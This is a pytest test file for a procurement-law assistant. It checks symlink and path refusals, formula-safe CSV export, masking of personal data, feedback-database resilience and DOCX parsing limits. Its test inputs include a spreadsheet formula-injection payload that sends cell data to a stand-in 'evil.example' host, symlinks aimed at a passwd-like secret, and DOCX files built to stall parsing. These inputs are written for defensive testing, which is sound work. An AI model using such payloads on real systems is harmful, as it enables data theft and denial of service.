"""Bad corpus entries, formula-safe exports, feedback that never breaks answering, personal
data kept out of the feedback database, retention, and answer status for the gap list."""

from __future__ import annotations

import csv
import os
import shutil
import sqlite3
import tempfile
import time
from pathlib import Path
from types import SimpleNamespace

import pytest

from assistant.answer.assistant import Answer, Citation
from assistant.corpus.service import sync
from assistant.corpus.sync import discover, plan
from assistant.records.feedback import FeedbackStore, FeedbackUnavailable
from assistant.records.privacy import mask_personal_data
from assistant.store.chroma import Store
from tests.conftest import LAW_TEXT, MARKDOWN_NOTE

SECRET = "root:x:0:0:hemmelig-adgangskode:/root:/bin/bash"


def stored_texts(store: Store) -> dict[str, str]:
    out: dict[str, str] = {}
    for stored in store.all_chunks():
        out[stored.chunk.source] = out.get(stored.chunk.source, "") + stored.chunk.text
    return out


# --- 1. one bad corpus entry never stops the rest -----------------------------------------


@pytest.fixture
def hostile_corpus(settings, tmp_path: Path) -> Path:
    corpus = settings.corpus_dir
    (corpus / "markedsdialog.md").write_text(MARKDOWN_NOTE, encoding="utf-8")
    (corpus / "sub").mkdir()
    (corpus / "sub" / "testlov.txt").write_text(LAW_TEXT, encoding="utf-8")
    # a file name that is not valid UTF-8
    fd = os.open(os.path.join(os.fsencode(corpus), b"bad-\xff.md"), os.O_WRONLY | os.O_CREAT, 0o644)
    os.write(fd, b"# Titel\n\nTekst om udbud og indk\xc3\xb8b.\n")
    os.close(fd)
    # a symlink loop a -> b -> a, and a folder link to its own parent
    os.symlink("b.md", corpus / "a.md")
    os.symlink("a.md", corpus / "b.md")
    os.symlink("..", corpus / "sub" / "up")
    # links to a file and a folder outside the corpus (standing for /etc/passwd and /etc)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "passwd.txt").write_text(SECRET + "\n", encoding="utf-8")
    os.symlink(outside / "passwd.txt", corpus / "leak.txt")
    os.symlink(outside, corpus / "etc")
    # a link inside the corpus stays allowed (and is not ingested twice)
    os.symlink("markedsdialog.md", corpus / "alias.md")
    return corpus


def test_bad_entries_fail_one_by_one_with_a_reason_and_the_rest_is_ingested(settings, hostile_corpus):
    store = Store(settings)
    report = sync(store, settings)

    reasons = {r.source: r.reason for r in report.failed}
    assert reasons["bad-\ufffd.md"] == "file name is not valid UTF-8: rename it"
    assert "link loop" in reasons["a.md"] and "link loop" in reasons["b.md"]
    assert "loop" in reasons["sub/up/"]
    assert reasons["leak.txt"] == "link points outside the corpus folder: refused"
    assert reasons["etc"] == "link points outside the corpus folder: refused"
    assert len(report.failed) == 6

    texts = stored_texts(store)
    assert set(texts) == {"markedsdialog.md", "sub/testlov.txt"}
    assert report.count("added") == 2
    assert not any("hemmelig" in t for t in texts.values())

    again = sync(store, settings)  # the same refusals, nothing else changes
    assert again.count("unchanged") == 2 and len(again.failed) == 6 and not again.changed


def test_dry_run_and_discover_list_refusals_without_crashing(settings, hostile_corpus):
    files = [source for _, source, _ in discover([hostile_corpus], hostile_corpus)]
    assert sorted(files) == ["markedsdialog.md", "sub/testlov.txt"]
    planned = {p.source: p for p in plan(Store(settings), [hostile_corpus], hostile_corpus)}
    assert planned["leak.txt"].action == "refuse" and "outside" in planned["leak.txt"].reason
    assert planned["markedsdialog.md"].action == "add"


def test_a_file_replaced_by_a_link_outside_is_refused_and_its_old_text_removed(settings, tmp_path):
    corpus = settings.corpus_dir
    (corpus / "notat.txt").write_text(LAW_TEXT, encoding="utf-8")
    (corpus / "markedsdialog.md").write_text(MARKDOWN_NOTE, encoding="utf-8")
    store = Store(settings)
    assert sync(store, settings).count("added") == 2

    secret = tmp_path / "elsewhere.txt"
    secret.write_text(SECRET, encoding="utf-8")
    (corpus / "notat.txt").unlink()
    os.symlink(secret, corpus / "notat.txt")
    report = sync(store, settings)
    assert [r.reason for r in report.failed] == ["link points outside the corpus folder: refused"]
    assert set(stored_texts(store)) == {"markedsdialog.md"}


def test_a_single_file_given_by_name_that_links_outside_is_refused(settings, tmp_path):
    secret = tmp_path / "elsewhere.txt"
    secret.write_text(SECRET, encoding="utf-8")
    link = settings.corpus_dir / "leak.txt"
    os.symlink(secret, link)
    store = Store(settings)
    report = sync(store, settings, [link])
    assert [(r.source, r.status, r.reason) for r in report.results] == [
        ("leak.txt", "failed", "link points outside the corpus folder: refused")]
    assert store.documents() == {}


# --- 2. formula-safe CSV exports, old exports deleted --------------------------------------


def make_answer(question: str, text: str = "Svar [1].", *, abstained: bool = False, error: str = "",
                status: str | None = None, citations: list[Citation] | None = None) -> Answer:
    answer = Answer(question=question, answer=text, abstained=abstained, mode="extractive",
                    citations=citations or [], language="da", error=error)
    if status is not None:
        answer.status = status  # works whether or not Answer has the field yet
    return answer


DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klik")', "@SUM(A1:A9)", "+1", "-2", "\t=x", "\r=y"]


def test_export_neutralises_formulas_in_every_cell(tmp_path):
    feedback = FeedbackStore(tmp_path / "data" / "feedback.sqlite3")
    for value in DANGEROUS:
        answer_id = feedback.record_answer(make_answer(value, text=value))
        feedback.vote(answer_id, -1, value)
    feedback.record_answer(make_answer("=1+1", abstained=True, status="abstained"))

    path = feedback.export_csv(tmp_path / "exports")
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    questions = {row[4] for row in rows[1:]}
    for value in DANGEROUS:
        assert "'" + value in questions
    comments = {row[3] for row in rows[1:] if row[0] == "feedback"}
    assert "'@SUM(A1:A9)" in comments
    assert ["abstained", "'=1+1"] == [rows[-1][0], rows[-1][4]]


def test_export_deletes_exports_older_than_an_hour(tmp_path):
    feedback = FeedbackStore(tmp_path / "feedback.sqlite3")
    folder = tmp_path / "exports"
    folder.mkdir()
    old, recent, other = folder / "feedback-20240101-000000.csv", folder / "feedback-recent.csv", folder / "notes.txt"
    for file in (old, recent, other):
        file.write_text("x", encoding="utf-8")
    two_hours_ago, ten_minutes_ago = time.time() - 7200, time.time() - 600
    os.utime(old, (two_hours_ago, two_hours_ago))
    os.utime(other, (two_hours_ago, two_hours_ago))
    os.utime(recent, (ten_minutes_ago, ten_minutes_ago))

    first = feedback.export_csv(folder)
    second = feedback.export_csv(folder)
    assert first != second and first.is_file() and second.is_file()
    assert not old.exists() and recent.exists() and other.exists()


# --- 3. logging never breaks answering ----------------------------------------------------


def test_disk_full_returns_none_and_tells_staff(tmp_path, monkeypatch):
    feedback = FeedbackStore(tmp_path / "feedback.sqlite3")
    assert feedback.healthy and feedback.last_error() == ""
    real_connect = sqlite3.connect

    def full(*args, **kwargs):
        raise sqlite3.OperationalError("database or disk is full")

    monkeypatch.setattr(sqlite3, "connect", full)
    assert feedback.record_answer(make_answer("Hvad er markedsdialog?")) is None
    assert feedback.vote(1, 1) is None and feedback.comment(1, "god") is None
    assert feedback.vote(None, 1) is None  # the id of an answer that was not stored
    assert feedback.gaps() == [] and feedback.latest_feedback() == []
    assert not feedback.healthy
    assert feedback.last_error() == "disk full: feedback is not being saved"

    monkeypatch.setattr(sqlite3, "connect", real_connect)  # space freed again
    assert isinstance(feedback.record_answer(make_answer("Hvad er markedsdialog?")), int)
    assert feedback.healthy and feedback.last_error() == ""


def test_a_full_disk_at_start_up_is_a_clear_error(tmp_path, monkeypatch):
    def full(*args, **kwargs):
        raise sqlite3.OperationalError("database or disk is full")

    monkeypatch.setattr(sqlite3, "connect", full)
    with pytest.raises(FeedbackUnavailable, match="full") as caught:
        FeedbackStore(tmp_path / "data" / "feedback.sqlite3")
    assert str(tmp_path / "data") in str(caught.value) and "ASSISTANT_DATA_DIR" in str(caught.value)


def test_a_data_folder_that_cannot_be_created_is_a_clear_error(tmp_path):
    (tmp_path / "not-a-folder").write_text("x", encoding="utf-8")
    with pytest.raises(FeedbackUnavailable, match="ASSISTANT_DATA_DIR") as caught:
        FeedbackStore(tmp_path / "not-a-folder" / "data" / "feedback.sqlite3")
    assert str(tmp_path / "not-a-folder" / "data") in str(caught.value)


def _as_unprivileged(action) -> str:
    """Run `action()` in a forked child that has dropped root to `nobody`, and return what it
    returned (or raised). Root ignores file modes, so CI (which runs as root) needs this to see
    a read-only folder as a buyer's server would. Forking keeps the loaded interpreter, so the
    child needs no access to the Python installation under /root."""
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:  # child
        os.close(reader)
        try:
            os.setgid(65534)
            os.setuid(65534)
            try:
                result = f"returned {action()!r}"
            except Exception as exc:  # noqa: BLE001 - the message is what the test checks
                result = f"{type(exc).__name__}: {exc}"
            os.write(writer, result.encode())
        finally:
            os._exit(0)
    os.close(writer)
    chunks = []
    while chunk := os.read(reader, 65536):
        chunks.append(chunk)
    os.close(reader)
    os.waitpid(pid, 0)
    return b"".join(chunks).decode()


def test_a_read_only_data_folder_is_a_clear_error(tmp_path):
    if os.geteuid() != 0:
        folder = tmp_path / "data"
        folder.mkdir()
        folder.chmod(0o500)
        try:
            with pytest.raises(FeedbackUnavailable) as caught:
                FeedbackStore(folder / "feedback.sqlite3")
            message = str(caught.value)
        finally:
            folder.chmod(0o700)
    else:
        # As root: a world-traversable temp folder, read-only for the unprivileged child.
        base = Path(tempfile.mkdtemp(prefix="ro-data-", dir="/tmp"))
        try:
            base.chmod(0o755)
            folder = base / "data"
            folder.mkdir()
            folder.chmod(0o555)
            outcome = _as_unprivileged(lambda: FeedbackStore(folder / "feedback.sqlite3"))
            assert outcome.startswith("FeedbackUnavailable: "), outcome
            message = outcome.removeprefix("FeedbackUnavailable: ")
        finally:
            shutil.rmtree(base, ignore_errors=True)
    assert message == (f"the data folder {folder} is read-only: give the app write access "
                       "or set ASSISTANT_DATA_DIR")


# --- 4. personal data is masked before anything is stored ----------------------------------


@pytest.mark.parametrize("text, expected", [
    ("Mit CPR-nummer er 010190-1234.", "Mit CPR-nummer er [cpr]."),
    ("cpr 3112851234 i ansøgningen", "cpr [cpr] i ansøgningen"),
    ("fødselsnummer 01019012345", "fødselsnummer [fødselsnummer]"),
    ("fnr. 290284 12345 og D-nummer 41019012345", "fnr. [fødselsnummer] og D-nummer [fødselsnummer]"),
    ("skriv til jens.hansen@kommune.dk eller kari.nordmann@nav.no",
     "skriv til [e-mail] eller [e-mail]"),
    ("ring 12 34 56 78 eller 23456789.", "ring [telefon] eller [telefon]."),
    ("tlf. +45 12345678, 0045 87 65 43 21", "tlf. [telefon], [telefon]"),
    ("mobil +47 412 34 567 / 91234567", "mobil [telefon] / [telefon]"),
])
def test_personal_data_is_masked(text, expected):
    assert mask_personal_data(text) == expected


@pytest.mark.parametrize("text", [
    "§ 12-2", "LBK nr. 116 af 3. februar 2025", "5.538.000 euro", "1.064.177 kr.", "2014/24/EU",
    "FOR-2016-08-12-974", "perioden 2026-2027", "tærsklen er 1 300 000 kr", "CVR-nr. 12345678",
    "rammeaftale 2024/S 123-456789", "kontrakt på 25000000 kr.", "991231-9999",  # no 31st month
    "udbudsloven § 39, stk. 2, og artikel 31", "anskaffelsesforskriften § 8-2 (1) og (2)",
])
def test_legal_references_and_amounts_are_not_masked(text):
    assert mask_personal_data(text) == text


def test_nothing_personal_reaches_the_feedback_database(tmp_path):
    path = tmp_path / "feedback.sqlite3"
    feedback = FeedbackStore(path)
    citation = Citation(n=1, source="udbudsloven.txt", title="Udbudsloven", page=0, section="§ 39",
                        quote="Kontakt jens@kommune.dk; tærsklen er 5.538.000 euro.", score=0.9)
    answer_id = feedback.record_answer(make_answer(
        "Jeg har CPR 010190-1234 og tlf. 12 34 56 78, må vi lave markedsdialog?",
        text="Ja, efter § 39 [1].", citations=[citation]))
    feedback.vote(answer_id, 1, "Ring til mig på +47 91234567")
    feedback.comment(answer_id, "Mail: kari@firma.no, fnr 01019012345")

    raw = path.read_bytes().decode("utf-8", "ignore")
    for personal in ("010190-1234", "12 34 56 78", "91234567", "jens@kommune.dk", "kari@firma.no",
                     "01019012345"):
        assert personal not in raw
    row = feedback.latest_feedback()[0]
    assert row["question"] == "Jeg har CPR [cpr] og tlf. [telefon], må vi lave markedsdialog?"
    assert row["comment"] == "Mail: [e-mail], fnr [fødselsnummer]"
    assert "[e-mail]" in row["citations"] and "5.538.000 euro" in row["citations"]


# --- 5. retention ------------------------------------------------------------------------


def test_old_answers_and_their_votes_are_deleted_at_start_up(tmp_path):
    path = tmp_path / "feedback.sqlite3"
    feedback = FeedbackStore(path, retention_days=180)
    old_id = feedback.record_answer(make_answer("Gammelt spørgsmål"))
    feedback.vote(old_id, -1, "gammel kommentar")
    new_id = feedback.record_answer(make_answer("Nyt spørgsmål"))
    feedback.vote(new_id, 1, "ny kommentar")
    with sqlite3.connect(path) as db:
        db.execute("UPDATE answers SET created_at='2020-01-01 10:00:00' WHERE id=?", (old_id,))
        db.execute("UPDATE votes SET created_at='2020-01-01 10:01:00' WHERE answer_id=?", (old_id,))
    db.close()

    reopened = FeedbackStore(path, retention_days=180)
    with sqlite3.connect(path) as db:
        questions = [r[0] for r in db.execute("SELECT question FROM answers")]
        votes = [r[0] for r in db.execute("SELECT answer_id FROM votes")]
    db.close()
    assert questions == ["Nyt spørgsmål"] and votes == [new_id]
    assert [r["comment"] for r in reopened.latest_feedback()] == ["ny kommentar"]
    assert reopened.purge_old() == 0


def test_purge_old_returns_how_many_answers_it_deleted(tmp_path):
    path = tmp_path / "feedback.sqlite3"
    feedback = FeedbackStore(path, retention_days=30)
    for question in ("a", "b", "c"):
        feedback.record_answer(make_answer(question))
    with sqlite3.connect(path) as db:
        db.execute("UPDATE answers SET created_at='2000-01-01 00:00:00' WHERE question IN ('a', 'b')")
    db.close()
    assert feedback.purge_old() == 2
    assert FeedbackStore(path, retention_days=None).purge_old() == 0


# --- 6. answer status and the gap list -----------------------------------------------------


def test_gaps_list_abstained_and_weak_answers_with_their_status(tmp_path):
    feedback = FeedbackStore(tmp_path / "feedback.sqlite3")
    feedback.record_answer(make_answer("Besvaret", status="answered"))
    feedback.record_answer(make_answer("Svagt", status="weak"))
    feedback.record_answer(make_answer("Ukendt", abstained=True, status="abstained"))
    feedback.record_answer(make_answer("Fejl", error="store_unavailable", status="error"))
    feedback.record_answer(make_answer("Ikke fundet", abstained=True))  # status left at its default
    # an answer object without a `status` attribute (older Answer): derived from error / abstained
    older = SimpleNamespace(question="Gammel fejl", answer="", abstained=False, mode="extractive",
                            citations=[], language="da", error="timeout")
    feedback.record_answer(older)
    feedback.record_answer(SimpleNamespace(**{**vars(older), "question": "Gammelt hul", "error": "",
                                              "abstained": True}))

    gaps = feedback.gaps()
    assert [(g["question"], g["status"]) for g in gaps] == [
        ("Gammelt hul", "abstained"), ("Ikke fundet", "abstained"), ("Ukendt", "abstained"),
        ("Svagt", "weak")]
    with sqlite3.connect(tmp_path / "feedback.sqlite3") as db:
        statuses = dict(db.execute("SELECT question, status FROM answers"))
    db.close()
    assert statuses["Fejl"] == "error" and statuses["Gammel fejl"] == "error"
    assert statuses["Besvaret"] == "answered"


def test_an_old_database_gets_a_status_column_and_keeps_its_gaps(tmp_path):
    path = tmp_path / "feedback.sqlite3"
    with sqlite3.connect(path) as db:
        db.executescript("""
            CREATE TABLE answers (id INTEGER PRIMARY KEY AUTOINCREMENT, created_at TEXT NOT NULL,
                question TEXT NOT NULL, answer TEXT NOT NULL, citations TEXT NOT NULL, mode TEXT NOT NULL,
                abstained INTEGER NOT NULL, language TEXT NOT NULL);
            CREATE TABLE votes (id INTEGER PRIMARY KEY AUTOINCREMENT, answer_id INTEGER NOT NULL,
                created_at TEXT NOT NULL, value INTEGER NOT NULL, comment TEXT NOT NULL DEFAULT '');
        """)
        now = time.strftime("%Y-%m-%d %H:%M:%S")
        db.execute("INSERT INTO answers (created_at, question, answer, citations, mode, abstained, language)"
                   " VALUES (?, 'Gammelt hul', '', '[]', 'extractive', 1, 'da')", (now,))
        db.execute("INSERT INTO answers (created_at, question, answer, citations, mode, abstained, language)"
                   " VALUES (?, 'Gammelt svar', 'Ja', '[]', 'extractive', 0, 'da')", (now,))
    db.close()

    feedback = FeedbackStore(path)
    feedback.record_answer(make_answer("Nyt svagt svar", status="weak"))
    assert [(g["question"], g["status"]) for g in feedback.gaps()] == [
        ("Nyt svagt svar", "weak"), ("Gammelt hul", "abstained")]
    assert feedback.healthy


def test_gaps_never_error_on_a_broken_database(tmp_path):
    path = tmp_path / "feedback.sqlite3"
    feedback = FeedbackStore(path)
    with sqlite3.connect(path) as db:
        db.execute("DROP TABLE answers")
    db.close()
    assert feedback.gaps() == []
    assert feedback.last_error()


# --- 9. small DOCX files cannot cost hours or gigabytes; unchanged files are not read again ------------

def hostile_docx(path: Path, paragraphs: int, styles: int, text: str = "Afsnit") -> Path:
    """A valid DOCX whose paragraphs each name one of many styles (python-docx's
    `Paragraph.style` scans the style sheet once per paragraph)."""
    import io
    import zipfile

    import docx

    template = io.BytesIO()
    docx.Document().save(template)
    source = zipfile.ZipFile(io.BytesIO(template.getvalue()))
    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    body = "".join(f'<w:p><w:pPr><w:pStyle w:val="S{i % styles}"/></w:pPr><w:r><w:t>{text} {i}</w:t></w:r></w:p>'
                   for i in range(paragraphs))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "word/document.xml":
                data = f'<?xml version="1.0" encoding="UTF-8"?><w:document {w}><w:body>{body}</w:body></w:document>'.encode()
            elif info.filename == "word/styles.xml":
                extra = "".join(f'<w:style w:type="paragraph" w:styleId="S{i}"><w:name w:val="{"Heading 2" if i == 0 else f"Style {i}"}"/></w:style>'
                                for i in range(styles))
                data = data.replace(b"</w:styles>", extra.encode() + b"</w:styles>")
            out.writestr(info, data)
    return path


def test_a_docx_with_many_styles_loads_in_linear_time(tmp_path):
    from assistant.ingest.loaders import load_file

    path = hostile_docx(tmp_path / "styles.docx", paragraphs=3000, styles=1500)  # 7.7 s before the fix
    started = time.perf_counter()
    doc = load_file(path)
    assert time.perf_counter() - started < 2.5
    assert doc.sections and doc.sections[0].headings == ["Afsnit 0"]  # the style map still finds headings


def test_docx_limits_give_a_clear_per_file_reason(tmp_path):
    from assistant.ingest.loaders import LoadError, LoadLimits, load_file

    path = hostile_docx(tmp_path / "long.docx", paragraphs=2000, styles=5)
    with pytest.raises(LoadError, match=r"over 1,000 paragraphs .*split"):
        load_file(path, limits=LoadLimits(docx_max_paragraphs=1000))
    with pytest.raises(LoadError, match=r"XML unpacks to .* MB, over the 0.01 MB limit"):
        load_file(path, limits=LoadLimits(docx_max_xml_mb=0.01))
    with pytest.raises(LoadError, match=r"longer than the 1e-06 s budget per file"):
        load_file(path, limits=LoadLimits(budget_s=0.000001))


def test_unchanged_files_are_not_read_again_at_start_up_even_when_they_failed(settings, monkeypatch):
    import assistant.corpus.sync as sync_module
    from tests.conftest import make_docx

    settings = settings.model_copy(update={"docx_max_paragraphs": 100})
    corpus = settings.corpus_dir
    (corpus / "markedsdialog.md").write_text(MARKDOWN_NOTE, encoding="utf-8")
    make_docx(corpus / "notat.docx", "Notat", ["Et kort notat om markedsdialog."])
    hostile_docx(corpus / "for-lang.docx", paragraphs=200, styles=3)  # over the limit
    reads: list[str] = []
    real = sync_module.load_file

    def counting(path, *args, **kwargs):
        reads.append(path.name)
        return real(path, *args, **kwargs)

    monkeypatch.setattr(sync_module, "load_file", counting)
    store = Store(settings)
    first = sync(store, settings, [corpus])
    assert sorted(reads) == ["for-lang.docx", "markedsdialog.md", "notat.docx"]
    assert "over 100 paragraphs" in {r.source: r.reason for r in first.failed}["for-lang.docx"]

    reads.clear()
    again = sync(store, settings, [corpus])  # what `app.py` does at every start
    assert reads == []
    assert {r.source: r.status for r in again.results} == {
        "markedsdialog.md": "unchanged", "notat.docx": "unchanged", "for-lang.docx": "failed"}
    assert "not read again" in again.failed[0].reason

    hostile_docx(corpus / "for-lang.docx", paragraphs=50, styles=3)  # fixed by staff: read again
    assert sync(store, settings, [corpus]).count("added") == 1 and reads == ["for-lang.docx"]


def test_a_markdown_file_that_turns_binary_after_8_kb_is_refused(tmp_path):
    from assistant.ingest.loaders import LoadError, load_file

    path = tmp_path / "note.md"
    path.write_bytes(("# Note\n\n" + "Tekst om markedsdialog. " * 500).encode() + bytes(range(256)) * 64)
    with pytest.raises(LoadError, match="binary content"):
        load_file(path)
    cp1252 = tmp_path / "gammel.txt"
    cp1252.write_bytes(("Overskrift\n\n" + "Æble og øl på vejen. " * 800).encode("cp1252"))
    assert load_file(cp1252).sections  # ordinary old text files still load
